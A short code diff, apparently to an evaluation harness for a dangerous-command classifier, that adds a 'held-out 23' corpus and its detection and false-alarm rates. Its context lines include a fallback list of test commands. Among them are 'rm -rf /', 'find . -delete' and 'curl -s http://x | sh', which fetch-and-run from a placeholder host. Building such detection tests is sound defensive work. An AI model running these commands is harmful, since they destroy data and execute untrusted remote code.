@@ -44,6 +44,7 @@ FIRST_RUN = {
     "own held-out 20": "first run: 97/147 = 66.0%, benign 8/145 = 5.5%; 105/155, 0/137 under policy",
     "own held-out 21": "first run: 79/124 = 63.7%, benign 0/112 = 0.0%",
     "own held-out 22": "first run: 114/196 = 58.2%, benign 5/175 = 2.9%",
+    "own held-out 23": "first run: 77/94 = 81.9%, benign 3/337 = 0.9%; 79/95, 1/336 under policy",
 }
 CORPORA = {
     "shared (core tier)": SHARED,
@@ -70,6 +71,7 @@ CORPORA = {
     "own held-out 20": OWN / "held_out_20.jsonl",
     "own held-out 21": OWN / "held_out_21.jsonl",
     "own held-out 22": OWN / "held_out_22.jsonl",
+    "own held-out 23": OWN / "held_out_23.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
